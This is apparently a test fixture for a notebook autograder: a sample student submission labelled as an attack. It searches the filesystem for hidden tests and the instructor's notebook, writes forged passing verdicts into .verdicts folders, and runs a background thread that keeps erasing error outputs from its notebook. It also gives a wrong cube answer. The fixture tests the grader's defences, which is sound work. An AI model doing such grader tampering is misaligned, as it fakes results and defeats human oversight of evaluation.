# Kind e (and an invention): looks for the hidden tests on disk, then tries to write its own
# verdicts. It reads every notebook, JSON, Python and database file it can find near its
# working folder (the folder and its parents, /tmp, its socket folder, the folders that
# /proc/self/mountinfo names) and prints every line that looks like a test; it tries the
# instructor's copy at the paths the grading shard would have. Then it writes
# {"square_tests": true, "cube_tests": true} wherever the judge's verdicts could live
# (.verdicts/ in and above its folder, and under the shard path that mountinfo gives), and a
# background thread keeps overwriting its own notebook in its folder with one whose test
# cells have no error outputs, for as long as the kernel lives.
# Answers: square blank, cube wrong (x). Deserves square_tests 0, cube_tests 0.
# %% cube
import glob
import json
import os
import threading
import time

print("ARMED @@NAME@@")
_started = time.monotonic()
_roots = {os.getcwd(), "/tmp"}
_folder = os.getcwd()
for _ in range(8):
    _folder = os.path.dirname(_folder)
    _roots.add(_folder)
try:
    from ipykernel import get_connection_file

    _roots.add(os.path.dirname(get_connection_file()))
except Exception:  # noqa: BLE001
    pass
try:
    with open("/proc/self/mountinfo") as _mounts:
        for _line in _mounts:
            _roots.add(_line.split()[4])
except OSError:
    pass
_printed = 0
_skip = ("/usr", "/proc", "/sys", "/dev", "/lib", "/etc", "/bin", "/sbin", "/opt", "/var", "/run")
_visited = 0
for _root in sorted(_roots):
    if _root == "/" or _root.startswith(_skip):
        continue
    for _folder, _folders, _files in os.walk(_root):
        _folders[:] = [name for name in _folders if name not in ("site-packages", ".venv", "node_modules")]
        for _name in _files:
            _visited += 1
            if _visited > 5000 or time.monotonic() - _started > 3:
                break
            if not _name.endswith((".ipynb", ".json", ".db", ".txt", ".sqlite")):
                continue
            _path = os.path.join(_folder, _name)
            try:
                with open(_path, "rb") as _handle:
                    _text = _handle.read(2_000_000).decode("utf-8", "replace")
            except OSError:
                continue
            for _line in _text.splitlines():
                if ("assert" in _line or "HIDDEN" in _line) and _printed < 200:
                    print(_path, ":", _line[:300])
                    _printed += 1
print("files visited:", _visited)
_course_guesses = [os.path.join(*([".."] * depth), "source", "99_tiny", "tiny.ipynb") for depth in range(1, 7)]
for _guess in _course_guesses:
    try:
        with open(_guess) as _handle:
            print("READ", _guess, _handle.read()[:5000])
    except OSError as error:
        print("cannot read", _guess, type(error).__name__)

_forged = json.dumps({"square_tests": True, "cube_tests": True})
_targets = [os.path.join(*([".."] * depth), ".verdicts", "tiny.json") for depth in range(0, 6)]
for _target in _targets:
    try:
        os.makedirs(os.path.dirname(_target) or ".", exist_ok=True)
        with open(_target, "w") as _handle:
            _handle.write(_forged)
        print("wrote", _target)
    except OSError as error:
        print("cannot write", _target, type(error).__name__)


def _rewrite_notebook():
    while True:
        for _path in glob.glob("*.ipynb"):
            try:
                with open(_path) as _handle:
                    notebook = json.load(_handle)
                for cell in notebook.get("cells", []):
                    cell["outputs"] = [] if cell.get("cell_type") == "code" else cell.get("outputs")
                    if cell.get("outputs") is None:
                        cell.pop("outputs")
                with open(_path, "w") as _handle:
                    json.dump(notebook, _handle)
            except Exception:  # noqa: BLE001
                pass
        time.sleep(0.05)


threading.Thread(target=_rewrite_notebook, daemon=True).start()


def cube(x):
    return x
